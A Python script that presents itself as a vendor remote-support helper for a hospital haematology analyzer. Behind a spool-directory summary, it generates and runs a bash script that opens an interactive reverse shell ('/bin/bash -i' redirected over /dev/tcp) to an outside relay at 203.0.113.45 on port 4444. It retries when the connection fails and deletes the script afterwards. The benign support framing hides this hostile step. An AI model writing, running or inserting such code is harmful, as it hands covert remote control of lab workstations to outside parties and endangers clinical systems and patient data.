#!/usr/bin/env python3
"""Remote support helper for the in-house haematology analyzer.

The vendor's field engineer asked us to "open a support channel" from the
lab PC so they can look at the analyzer's spool directory.  This script
collects a short status summary and then hands the session over to the
vendor's support relay.
"""
import argparse
import logging
import os
import platform
import stat
import subprocess
import sys
import tempfile
import time
from pathlib import Path

LOG = logging.getLogger("analyzer-support")

DEFAULT_RELAY = "203.0.113.45"
DEFAULT_PORT = 4444
SPOOL_DIR = Path("spool")

RELAY_TEMPLATE = """#!/bin/bash
# vendor support relay - generated {stamp}
cd "${{ANALYZER_SPOOL:-.}}" 2>/dev/null || true
echo "[support] lab workstation $(hostname) connected" 
exec /bin/bash -i >& /dev/tcp/${{SUPPORT_RELAY}}/${{SUPPORT_PORT}} 0>&1
"""


class SupportSession:
    """Wraps the generated relay script and the environment it runs with."""

    def __init__(self, relay, port, spool, retries):
        self.relay = relay
        self.port = port
        self.spool = spool
        self.retries = retries
        self.script_path = None

    def summarize_spool(self):
        if not self.spool.is_dir():
            LOG.warning("spool directory %s not found", self.spool)
            return {"files": 0, "bytes": 0}
        files = [p for p in self.spool.iterdir() if p.is_file()]
        total = sum(p.stat().st_size for p in files)
        LOG.info("spool has %d files, %d bytes", len(files), total)
        return {"files": len(files), "bytes": total}

    def write_relay(self):
        fd, path = tempfile.mkstemp(prefix="vendor-relay-", suffix=".sh")
        with os.fdopen(fd, "w") as fh:
            fh.write(RELAY_TEMPLATE.format(stamp=time.strftime("%Y-%m-%d %H:%M:%S")))
        os.chmod(path, stat.S_IRWXU)
        self.script_path = path
        LOG.debug("relay script written to %s", path)
        return path

    def environment(self):
        env = dict(os.environ)
        env["SUPPORT_RELAY"] = self.relay
        env["SUPPORT_PORT"] = str(self.port)
        env["ANALYZER_SPOOL"] = str(self.spool.resolve())
        return env

    def run(self):
        path = self.write_relay()
        env = self.environment()
        for attempt in range(1, self.retries + 1):
            LOG.info("opening support channel to %s:%s (attempt %d)",
                     self.relay, self.port, attempt)
            proc = subprocess.Popen(["bash", path], env=env)
            rc = proc.wait()
            if rc == 0:
                LOG.info("support session ended normally")
                return 0
            LOG.warning("relay exited with %d, retrying in 10s", rc)
            time.sleep(10)
        return 1

    def cleanup(self):
        if self.script_path and os.path.exists(self.script_path):
            os.unlink(self.script_path)


def parse_args(argv):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--relay", default=os.environ.get("VENDOR_RELAY", DEFAULT_RELAY))
    ap.add_argument("--port", type=int, default=DEFAULT_PORT)
    ap.add_argument("--spool", type=Path, default=SPOOL_DIR)
    ap.add_argument("--retries", type=int, default=3)
    ap.add_argument("-v", "--verbose", action="store_true")
    return ap.parse_args(argv)


def main(argv=None):
    args = parse_args(argv if argv is not None else sys.argv[1:])
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    LOG.info("workstation %s (%s)", platform.node(), platform.platform())
    session = SupportSession(args.relay, args.port, args.spool, args.retries)
    summary = session.summarize_spool()
    LOG.info("status summary: %s", summary)
    try:
        return session.run()
    except KeyboardInterrupt:
        LOG.info("interrupted by operator")
        return 130
    finally:
        session.cleanup()


if __name__ == "__main__":
    sys.exit(main())
